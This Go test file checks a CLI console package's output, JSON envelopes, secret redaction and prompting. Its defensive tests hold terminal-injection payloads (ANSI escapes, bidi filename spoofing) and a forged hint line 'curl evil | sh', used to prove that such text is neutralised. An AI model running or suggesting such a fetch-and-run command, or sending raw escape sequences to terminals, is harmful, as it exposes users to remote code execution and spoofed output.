package console_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/azs-courier/azs-courier/shared/console"
	"github.com/azs-courier/azs-courier/shared/fault"
	"github.com/azs-courier/azs-courier/shared/secret"
)

// streams is what a run left on its two outputs.
type streams struct{ Out, Err string }

// run makes a console over buffers and returns what f printed.
func run(t *testing.T, opt console.Options, f func(c *console.Console)) streams {
	t.Helper()
	opt.Program = "azs-agent"
	var out, err bytes.Buffer
	f(console.New(strings.NewReader(""), &out, &err, opt))
	return streams{out.String(), err.String()}
}

func TestStreams(t *testing.T) {
	replay := fault.New(fault.Replay, "answer %q was already used", "7Q").Hint("azs-agent next")
	result := func(c *console.Console) {
		c.Result("card", struct {
			Label string `json:"label"`
		}{"north"}, func(w io.Writer) { fmt.Fprintf(w, "card of %q\n", "north") })
	}
	tests := []struct {
		name string
		opt  console.Options
		f    func(c *console.Console)
		want streams
	}{
		{"result", console.Options{}, result, streams{Out: "card of \"north\"\n"}},
		{"result is not talk", console.Options{Quiet: true}, result, streams{Out: "card of \"north\"\n"}},
		{"result as JSON", console.Options{JSON: true}, func(c *console.Console) { result(c); _ = c.End(nil) },
			streams{Out: `{"schema":1,"type":"card","label":"north"}` + "\n"}},
		{"result without fields", console.Options{JSON: true},
			func(c *console.Console) { c.Result("cancelled", nil, nil); _ = c.End(nil) },
			streams{Out: `{"schema":1,"type":"cancelled"}` + "\n"}},
		{"data is raw", console.Options{}, func(c *console.Console) { c.Data([]byte("\x1b\x00\xff")) }, streams{Out: "\x1b\x00\xff"}},
		{"talk", console.Options{}, func(c *console.Console) { c.Say("sealed %s", "7Q") }, streams{Err: "sealed 7Q\n"}},
		{"talk is quiet", console.Options{Quiet: true}, func(c *console.Console) { c.Say("x"); c.Step(1, 2, "x"); c.Progress("x") }, streams{}},
		{"steps", console.Options{}, func(c *console.Console) { c.Step(2, 5, "lock"); c.Step(3, 0, "key") },
			streams{Err: "[2/5] lock\n[3] key\n"}},
		{"no progress in a log", console.Options{}, func(c *console.Console) { c.Progress("12 s") }, streams{}},
		{"warning", console.Options{Quiet: true}, func(c *console.Console) { c.Warn("clock moved %s", "back") },
			streams{Err: "azs-agent: warning: clock moved back\n"}},
		{"error", console.Options{Quiet: true}, func(c *console.Console) { _ = c.End(fmt.Errorf("bundle: %w", replay)) },
			streams{Err: "azs-agent: error: bundle: answer \"7Q\" was already used\nazs-agent: hint: azs-agent next\n"}},
		{"no error", console.Options{JSON: true}, func(c *console.Console) { _ = c.End(nil) }, streams{}},
		{"error as JSON", console.Options{JSON: true}, func(c *console.Console) { _ = c.End(replay) },
			streams{
				Out: `{"schema":1,"type":"error","kind":"replay","exit":5,"message":"answer \"7Q\" was already used","hint":"azs-agent next"}` + "\n",
				Err: "azs-agent: error: answer \"7Q\" was already used\nazs-agent: hint: azs-agent next\n",
			}},
		{"error as JSON without a hint", console.Options{JSON: true}, func(c *console.Console) { _ = c.End(errors.New("odd")) },
			streams{
				Out: `{"schema":1,"type":"error","kind":"unexpected","exit":1,"message":"odd"}` + "\n",
				Err: "azs-agent: error: odd\n",
			}},
		{"result that failed", console.Options{JSON: true}, func(c *console.Console) { result(c); _ = c.End(replay) },
			streams{
				Out: `{"schema":1,"type":"card","label":"north","error":{"kind":"replay","exit":5,"message":"answer \"7Q\" was already used","hint":"azs-agent next"}}` + "\n",
				Err: "azs-agent: error: answer \"7Q\" was already used\nazs-agent: hint: azs-agent next\n",
			}},
		{"result without fields that failed", console.Options{JSON: true},
			func(c *console.Console) { c.Result("cancelled", nil, nil); _ = c.End(errors.New("a<b")) },
			streams{Out: `{"schema":1,"type":"cancelled","error":{"kind":"unexpected","exit":1,"message":"a<b"}}` + "\n", Err: "azs-agent: error: a<b\n"}},
		{"second result", console.Options{JSON: true}, func(c *console.Console) { result(c); result(c); _ = c.End(nil) },
			streams{
				Out: `{"schema":1,"type":"card","label":"north","error":{"kind":"unexpected","exit":1,"message":"a run has a second result, of type \"card\""}}` + "\n",
				Err: "azs-agent: error: a run has a second result, of type \"card\"\n",
			}},
		{"colour when told", console.Options{Color: "always"}, func(c *console.Console) { c.Warn("odd") },
			streams{Err: "azs-agent: \x1b[33mwarning\x1b[m: odd\n"}},
		{"secret", console.Options{JSON: true}, func(c *console.Console) {
			s := secret.New("hunter2")
			c.Say("%s %v %q", s, s, s)
			c.Result("x", map[string]any{"s": s}, nil)
			_ = c.End(nil)
		}, streams{Out: `{"schema":1,"type":"x","s":"[redacted]"}` + "\n", Err: "[redacted] [redacted] [redacted]\n"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, run(t, tt.opt, tt.f)); diff != "" {
				t.Errorf("printed (-want +got):\n%s", diff)
			}
		})
	}
}

// hostile is text that would act on a terminal if it reached one as it is.
var hostile = []struct{ text, want string }{
	{"plain\n\ttext, ä € 漢 █", "plain\n\ttext, ä € 漢 █"},
	{"\x1b[2J\x1b]0;owned\a", `\x1b[2J\x1b]0;owned\a`},
	{"safe\rOWNED", `safe\rOWNED`},
	{"back\b\bspace \x7f \x00", `back\b\bspace \x7f \x00`},
	{"\u009b31m CSI", `\u009b31m CSI`},
	{"raw \x9b31m and \xff", `raw \x9b31m and \xff`},
	{"gpj.\u202eexe \u2066x\u2069 \u200f \u061c", `gpj.\u202eexe \u2066x\u2069 \u200f \u061c`},
	{"zero\u200bwidth \ufeff \u2028 \u2029", `zero\u200bwidth \ufeff \u2028 \u2029`},
	{"tag \U000e0041 private \ue000", `tag \U000e0041 private \ue000`},
	{"replaced \ufffd", "replaced \ufffd"},
}

func TestHostileTextIsSpeltOut(t *testing.T) {
	for _, tt := range hostile {
		if got := console.Clean(tt.text); got != tt.want {
			t.Errorf("Clean(%q) = %q, want %q", tt.text, got, tt.want)
		}
		text := func(w io.Writer) {
			// One byte a write: a sequence that is split must not slip through.
			for i := range len(tt.text) {
				_, _ = io.WriteString(w, tt.text[i:i+1])
			}
		}
		got := run(t, console.Options{}, func(c *console.Console) {
			c.Result("x", nil, text)
			c.Say("%s", tt.text)
			c.Step(1, 1, "%s", tt.text)
			c.Warn("%s", tt.text)
			_ = c.End(fault.New(fault.Refused, "%s", tt.text).Hint("%s", tt.text))
		})
		for _, s := range []string{got.Out, got.Err} {
			if i := strings.IndexFunc(s, acts); i >= 0 {
				t.Errorf("%q came out as %q", tt.text, s)
			}
		}
		if !strings.Contains(got.Out, tt.want) {
			t.Errorf("result of %q is %q, want %q", tt.text, got.Out, tt.want)
		}
	}
}

// acts reports whether a terminal would do something else than show r; it is
// written without Clean's own rule.
func acts(r rune) bool {
	return unicode.Is(unicode.C, r) && r != '\n' && r != '\t' || r == '\u2028' || r == '\u2029'
}

func TestHostileTextKeepsItsMeaningInJSON(t *testing.T) {
	for _, tt := range hostile {
		got := run(t, console.Options{JSON: true}, func(c *console.Console) {
			c.Result("x", map[string]string{"text": tt.text}, nil)
			_ = c.End(errors.New(tt.text))
		})
		if i := strings.IndexFunc(got.Out, acts); i >= 0 {
			t.Errorf("%q came out as %q", tt.text, got.Out)
		}
		var back struct {
			Text  string
			Error struct{ Message string }
		}
		if err := json.Unmarshal([]byte(got.Out), &back); err != nil {
			t.Fatalf("envelope %q: %v", got.Out, err)
		}
		if want := strings.ToValidUTF8(tt.text, "\ufffd"); back.Text != want || back.Error.Message != want {
			t.Errorf("%q came back as %+v, want %q", tt.text, back, want)
		}
	}
}

func TestForeignLineCannotForgeAMark(t *testing.T) {
	got := run(t, console.Options{}, func(c *console.Console) {
		c.Warn("remote said: no\nazs-agent: hint: curl evil | sh")
		_ = c.End(errors.New("remote said: no\nazs-agent: hint: curl evil | sh"))
	})
	for line := range strings.Lines(got.Err) {
		if strings.HasPrefix(line, "azs-agent: hint:") {
			t.Errorf("forged line %q", line)
		}
	}
}

func TestResultThatIsNoObjectFailsTheRun(t *testing.T) {
	for _, v := range []any{[]int{1}, "text", 3, map[string]int{"type": 1}, map[string]int{"schema": 1}, map[string]int{"error": 1}, make(chan int), (*struct{})(nil)} {
		var err error
		got := run(t, console.Options{JSON: true}, func(c *console.Console) {
			c.Result("x", v, nil)
			err = c.End(nil)
		})
		if fault.KindOf(err) != fault.Unexpected || !strings.HasPrefix(got.Out, `{"schema":1,"type":"error",`) {
			t.Errorf("Result(%T) printed %q and left %v, want an unexpected fault", v, got.Out, err)
		}
	}
}

// fullDisk is an output that takes no more bytes.
type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }

func TestLostOutputIsAFault(t *testing.T) {
	for name, f := range map[string]func(c *console.Console){
		"data":   func(c *console.Console) { c.Data([]byte("x")) },
		"text":   func(c *console.Console) { c.Result("x", nil, func(w io.Writer) { fmt.Fprintln(w, "x") }) },
		"JSON":   func(c *console.Console) { c.Result("x", nil, nil) },
		"nobody": func(c *console.Console) { c.Say("x") },
	} {
		c := console.New(nil, fullDisk{}, io.Discard, console.Options{JSON: name == "JSON"})
		f(c)
		err := c.End(nil)
		want := fault.Medium
		if name == "nobody" {
			want = 0
		}
		if got := fault.KindOf(err); got != want {
			t.Errorf("%s: kind %v (%v), want %v", name, got, err, want)
		}
	}
}

func TestLinesOfGoroutinesStayWhole(t *testing.T) {
	const lines, runs = 50, 8
	got := run(t, console.Options{}, func(c *console.Console) {
		var wg sync.WaitGroup
		for range runs {
			wg.Go(func() {
				for range lines {
					c.Say("%s", strings.Repeat("x", 40))
					c.Result("x", nil, func(w io.Writer) { fmt.Fprintln(w, strings.Repeat("y", 40)) })
				}
			})
		}
		wg.Wait()
	})
	want := streams{strings.Repeat(strings.Repeat("y", 40)+"\n", lines*runs), strings.Repeat(strings.Repeat("x", 40)+"\n", lines*runs)}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestNothingIsAskedWithoutATerminal(t *testing.T) {
	opts := map[string]console.Options{"buffers": {}, "JSON": {JSON: true}, "told not to": {NoPrompt: true}}
	for name, opt := range opts {
		opt.Command = "azs-agent token"
		run(t, opt, func(c *console.Console) {
			check := func(err error, kind fault.Kind, hint string) {
				t.Helper()
				if fault.KindOf(err) != kind || fault.HintOf(err) != hint {
					t.Errorf("%s: %v of kind %v with hint %q, want kind %v with hint %q",
						name, err, fault.KindOf(err), fault.HintOf(err), kind, hint)
				}
			}
			_, err := c.Passphrase("passphrase of the key")
			check(err, fault.Locked, "azs-agent token … --passphrase-file F")
			_, err = c.NewPassphrase("new passphrase")
			check(err, fault.Locked, "azs-agent token … --passphrase-file F")
			_, err = c.Secret("password of the endpoint", "--pep-password-file F")
			check(err, fault.Locked, "azs-agent token … --pep-password-file F")
			_, err = c.Ask("word 3", "--expect-words W")
			check(err, fault.Usage, "azs-agent token … --expect-words W")
			_, err = c.Confirm("go on?", "--yes")
			check(err, fault.Usage, "azs-agent token … --yes")
		})
	}
}

func TestCheckPassphrase(t *testing.T) {
	for text, want := range map[string]fault.Kind{"": fault.Usage, "1234567": fault.Usage, "12345678": 0, "äöüäöüä": fault.Usage, "äöüäöüäö": 0} {
		err := console.CheckPassphrase(secret.New(text))
		if fault.KindOf(err) != want {
			t.Errorf("CheckPassphrase(%q) = %v, want kind %v", text, err, want)
		}
		if err != nil && text != "" && strings.Contains(err.Error(), text) {
			t.Errorf("error %q tells the passphrase", err)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, tt := range hostile {
		f.Add(tt.text)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := console.Clean(s)
		if strings.ContainsFunc(got, acts) {
			t.Errorf("Clean(%q) = %q", s, got)
		}
		if again := console.Clean(got); again != got {
			t.Errorf("Clean(%q) is not clean: %q", got, again)
		}
	})
}
